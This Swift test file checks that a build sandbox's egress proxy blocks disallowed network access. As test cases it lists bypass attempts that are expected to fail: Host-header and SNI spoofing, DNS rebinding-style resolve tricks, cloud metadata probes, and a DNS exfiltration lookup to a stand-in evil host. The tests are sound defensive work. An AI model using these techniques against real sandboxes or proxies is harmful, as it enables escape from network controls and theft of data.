// SPDX-License-Identifier: Apache-2.0
// Copyright the Drydock authors

import Foundation
import Testing

/// The way out of a sandbox, tried from inside by real clients, in a network that has no way out itself
/// (egress-world.py).
@Suite("egress, from inside a sandbox", .timeLimit(.minutes(3)))
struct EgressTests {
    private static let world = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appending(path: "Support/egress-world.py").path

    /// Runs a line of shell in the world, whose servers have a file `file.txt`.
    private func inWorld(
        _ scratch: Scratch,
        _ line: String,
        _ environment: [String: String] = [:]
    ) throws -> Finished {
        try scratch.write("fine\n", to: "site/file.txt")
        try FileManager.default.createDirectory(at: scratch.url("work"), withIntermediateDirectories: true)
        return try Program.run(
            "/usr/bin/env",
            ["python3", Self.world, scratch.url("site").path, "/bin/sh", "-c", line],
            environment: environment.merging(["DRYDOCK_DATA": scratch.url("data").path]) { own, _ in own },
            in: scratch.url("work")
        )
    }

    /// Runs `script` in a sandbox that may reach `hosts`; what the servers were asked is the second result.
    private func run(
        _ scratch: Scratch,
        hosts: [String],
        _ script: String
    ) throws -> (Finished, requests: String) {
        let network = hosts.map { "--network '\($0)'" }.joined(separator: " ")
        let line = """
            cp "$WORLD_CA" trusted.pem && '\(Program.drydock)' run \(network) --workspace . \
            --env SSL_CERT_FILE=/w/s/trusted.pem --env CURL_CA_BUNDLE=/w/s/trusted.pem --limit total=60s -- sh -c "$SCRIPT"
            """
        let finished = try inWorld(scratch, line, ["SCRIPT": script])
        return (finished, (try? scratch.read("requests")) ?? "")
    }

    @Test(
        "real clients reach the host that is allowed, by TLS and without",
        arguments: [
            "curl -fsS https://index.test/file.txt",
            "curl -fsS http://index.test/file.txt",
            "wget -qO- --ca-certificate=trusted.pem https://index.test/file.txt",
            "wget -qO- http://index.test/file.txt",
            "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://index.test/file.txt\").read().decode(), end=\"\")'",
            "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://index.test/file.txt\").read().decode(), end=\"\")'",
            """
            { printf 'GET /file.txt HTTP/1.0\\r\\nHost: index.test\\r\\n\\r\\n'; sleep 1; } \
            | openssl s_client -quiet -proxy 127.0.0.1:3128 -servername index.test -connect index.test:443 2>/dev/null | tail -n 1
            """,
        ]
    )
    func clients(script: String) async throws {
        guard geteuid() == 0 else { return }  // needs a network and mounts of its own
        try await withScratch { scratch in
            let (finished, requests) = try run(scratch, hosts: ["index.test"], script)
            #expect(finished.status == 0 && finished.out == "fine\n", "\(finished)")
            #expect(requests == "index.test /file.txt\n")
            #expect(!finished.err.contains("refused"))
        }
    }

    /// What is tried, and what the host says of it.
    static let attacks: [(script: String, told: String)] = [
        ("curl -sS https://evil.test/file.txt", "evil.test:443 is not among"),
        ("curl -sS http://evil.test/file.txt", "evil.test:80 is not among"),
        ("curl -sS http://127.0.0.1/file.txt --noproxy ''", "is an address, not a name"),
        ("curl -sS -L http://index.test/redirect/evil.test/file.txt", "evil.test:80 is not among"),
        ("curl -sS -H 'Host: evil.test' http://index.test/file.txt", "names another"),
        (
            "curl -sSk --connect-to evil.test:443:index.test:443 https://evil.test/file.txt",
            "for another host"
        ),
        (
            "curl -sSk --resolve evil.test:443:127.0.0.1 --noproxy '' https://evil.test/file.txt",
            "evil.test:443 is not among"
        ),
        (
            "openssl s_client -proxy 127.0.0.1:3128 -noservername -connect index.test:443 </dev/null",
            "names no host"
        ),
        (
            "openssl s_client -proxy 127.0.0.1:3128 -servername evil.test -connect index.test:443 </dev/null",
            "for another host"
        ),
        ("curl -sS https://metadata.test/", "metadata.test:443 is not among"),
        ("curl -sS --proxytunnel http://index.test/file.txt", "something else than a TLS connection"),
        ("curl -sS https://index.test:8443/", "index.test:8443 is not among"),
    ]

    @Test("what is not allowed is not reached, and told by name", arguments: attacks)
    func attack(script: String, told: String) async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            let (finished, requests) = try run(
                scratch,
                hosts: ["index.test"],
                "\(script) >&2; curl -fsS https://index.test/file.txt?after"
            )
            #expect(finished.out == "fine\n", "the neighbour: \(finished)")
            #expect(finished.err.contains(told), "\(finished.err)")
            let asked = requests.split(separator: "\n").filter {
                !$0.hasSuffix("?after") && !$0.contains("/redirect/")
            }
            #expect(asked.isEmpty, "\(requests)")
        }
    }

    @Test(
        "an allowed name that leads to the metadata service, or into the operator's network, leads nowhere",
        arguments: [("metadata.test", "link-local"), ("inner.test", "private")]
    )
    func addresses(name: String, why: String) async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            let (finished, _) = try run(scratch, hosts: [name], "curl -sS -m 5 https://\(name)/; true")
            #expect(finished.err.contains("leads to a \(why) address"), "\(finished)")
        }
    }

    @Test(
        "clients that know of no proxy reach the host by its name, on its ports",
        arguments: [
            "curl -fsS --noproxy '*' https://index.test/file.txt",
            "curl -fsS --noproxy '*' http://index.test/file.txt",
            "env -i PATH=$PATH wget -qO- --ca-certificate=trusted.pem https://index.test/file.txt",
            "env -i PATH=$PATH SSL_CERT_FILE=$SSL_CERT_FILE python3 -c 'import urllib.request as u; "
                + "print(u.urlopen(\"https://index.test/file.txt\").read().decode(), end=\"\")'",
            """
            { printf 'GET /file.txt HTTP/1.0\r\nHost: index.test\r\n\r\n'; sleep 1; } \
            | openssl s_client -quiet -servername index.test -connect index.test:443 2>/dev/null | tail -n 1
            """,
            "bash -c 'exec 3<>/dev/tcp/index.test/80; printf \"GET /file.txt HTTP/1.0\\r\\nHost: index.test\\r\\n\\r\\n\" >&3; tail -n 1 <&3'",
        ]
    )
    func withoutProxy(script: String) async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            let (finished, requests) = try run(scratch, hosts: ["index.test"], script)
            #expect(finished.status == 0 && finished.out == "fine\n", "\(finished)")
            #expect(requests.hasPrefix("index.test") && requests.contains("/file.txt\n"), "\(requests)")
            #expect(!finished.err.contains("refused"), "\(finished)")
        }
    }

    @Test("around the proxy there is no way, and nothing hangs")
    func around() async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            let script = """
                curl -sS -m 3 --noproxy '*' https://evil.test/file.txt >&2 && exit 1
                curl -sS -m 3 --noproxy '*' https://127.0.0.1/file.txt >&2 && exit 1
                curl -sS -m 3 --noproxy '*' https://127.64.0.9/file.txt >&2 && exit 1
                curl -sSk -m 3 --noproxy '*' --connect-to evil.test:443:index.test:443 https://evil.test/file.txt >&2 && exit 1
                curl -fsS -m 3 --noproxy '*' -H 'Host: evil.test' http://index.test/file.txt >&2 && exit 1
                cat > try.py <<'X'
                import socket, time
                begin = time.monotonic()
                for address in ["10.9.8.7", "169.254.169.254", "8.8.8.8"]:
                    for port in [53, 80, 443]:
                        s = socket.socket(); s.settimeout(2)
                        try: s.connect((address, port)); raise SystemExit("reached " + address)
                        except OSError: pass
                u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                try: u.sendto(b"x", ("8.8.8.8", 53)); raise SystemExit("sent")
                except OSError: pass
                for name in ["evil.test", "secret-data-to-leak.evil.test", "metadata.test", "x" * 63 + ".test"]:
                    try: raise SystemExit(socket.getaddrinfo(name, 443))
                    except socket.gaierror: pass
                try: raise SystemExit(socket.getaddrinfo("index.test", 443, socket.AF_INET6))
                except socket.gaierror: pass
                found = {a[4][0] for a in socket.getaddrinfo("index.test", 443)}
                assert len(found) == 1
                assert {a[4][0] for a in socket.getaddrinfo("index.test", 443, socket.AF_INET, 0, 0, socket.AI_ADDRCONFIG)} == found
                assert time.monotonic() - begin < 2
                X
                python3 try.py || exit 1
                curl -fsS --noproxy '*' https://index.test/file.txt
                """
            let (finished, requests) = try run(scratch, hosts: ["index.test"], script)
            #expect(finished.status == 0 && finished.out == "fine\n", "\(finished)")
            #expect(requests == "index.test /file.txt\n", "\(requests)")
            #expect(finished.err.contains("secret-data-to-leak.evil.test is not among"), "\(finished.err)")
        }
    }

    @Test("a step has none of the sockets, and a sandbox without a network has no way either")
    func descriptors() async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            let (with, _) = try run(scratch, hosts: ["index.test"], "ls /proc/self/fd | tr '\\n' ' '")
            #expect(with.out == "0 1 2 3 ", "\(with)")
            let script =
                "env | grep -i proxy; cat /proc/net/tcp /proc/net/udp | wc -l; curl -sS -m 3 https://index.test/"
            let (without, requests) = try run(scratch, hosts: [], script)
            #expect(without.out == "2\n" && without.status == 6 && requests.isEmpty, "\(without)")
        }
    }

    @Test("a build gets of what it asks for what the operator allows, and its record says who was reached")
    func build() async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            try scratch.write(
                """
                version: 1
                steps:
                  - id: fetch
                    plugin: script
                    network: [index.test, evil.test]
                    with: { run: 'curl -fsSk https://index.test/file.txt && curl -fsSk https://evil.test/file.txt' }
                  - id: apart
                    plugin: script
                    needs: [fetch]
                    with: { run: 'true' }
                """,
                to: "project/drydock.yaml"
            )
            let build = "'\(Program.drydock)' build --output json '\(scratch.url("project").path)'"
            let finished = try inWorld(scratch, build, ["DRYDOCK_NETWORK_ALLOW": "evil.test:443,index.test"])
            #expect(finished.status == 0, "\(finished)")
            let records = try finished.out.split(separator: "\n").map {
                try #require(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])
            }
            let plan = try #require(
                records.first { $0["kind"] as? String == "plan" }?["plan"] as? [String: Any]
            )
            #expect(plan["network"] as? [String] == ["index.test", "evil.test:443"])
            let uses = records.filter { $0["kind"] as? String == "network" }
            #expect(
                uses.count == 2
                    && uses.allSatisfy { $0["allowed"] as? Bool == true && $0["step"] as? String == "fetch" }
            )
            let usage = try #require(
                records.first { $0["kind"] as? String == "usage" }?["network"] as? [[String: Any]]
            )
            #expect(
                usage.first?["host"] as? String == "evil.test" && (usage.first?["received"] as? Int ?? 0) > 5
            )
        }
    }

    @Test("a step that names no hosts gets those that its plugin may ask for; drivers and detection get none")
    func permits() async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            try scratch.write(
                """
                #!/bin/sh
                # drydock: {"protocol": "1.0", "title": "Fetch", "permits": {"network": ["index.test"]}, "detect": {"files": ["go"]}}
                curl -fsSk https://index.test/file.txt > "$DRYDOCK_OUT/it"
                """,
                to: "plugins/50-fetch.sh"
            )
            try Program.shell("chmod 755 plugins/50-fetch.sh", in: scratch.folder)
            for (name, content, status) in [
                ("detected", "", Int32(0)),
                ("named", "version: 1\nsteps: [{ plugin: fetch }]\n", 0),
                ("closed", "version: 1\nsteps: [{ plugin: fetch, network: [] }]\n", 1),
            ] {
                try scratch.write("", to: "\(name)/go")
                if !content.isEmpty { try scratch.write(content, to: "\(name)/drydock.yaml") }
                let project = scratch.url(name).path
                let build =
                    "'\(Program.drydock)' build --output plain --plugins '\(scratch.url("plugins").path)' '\(project)'"
                let finished = try inWorld(scratch, build, ["DRYDOCK_NETWORK_ALLOW": "index.test,evil.test"])
                #expect(finished.status == status, "\(name): \(finished)")
            }
        }
    }

    @Test("a host that is refused stands in the failure, with the line that would allow it")
    func advice() async throws {
        guard geteuid() == 0 else { return }
        try await withScratch { scratch in
            let yaml = """
                version: 1
                steps:
                  - plugin: script
                    network: [index.test]
                    with: { run: 'curl -fsS https://evil.test:8443/' }
                """
            try scratch.write(yaml, to: "project/drydock.yaml")
            let build =
                "'\(Program.drydock)' build --output plain --network files.test '\(scratch.url("project").path)'"
            let finished = try inWorld(scratch, build)
            let said = finished.out + finished.err
            #expect(finished.status == 1, "\(finished)")
            #expect(said.contains("asked for index.test, the operator allows files.test"), "\(said)")
            #expect(said.contains("it tried to reach evil.test:8443 (refused)"), "\(said)")
            #expect(said.contains("network: [evil.test:8443]"), "\(said)")
        }
    }
}
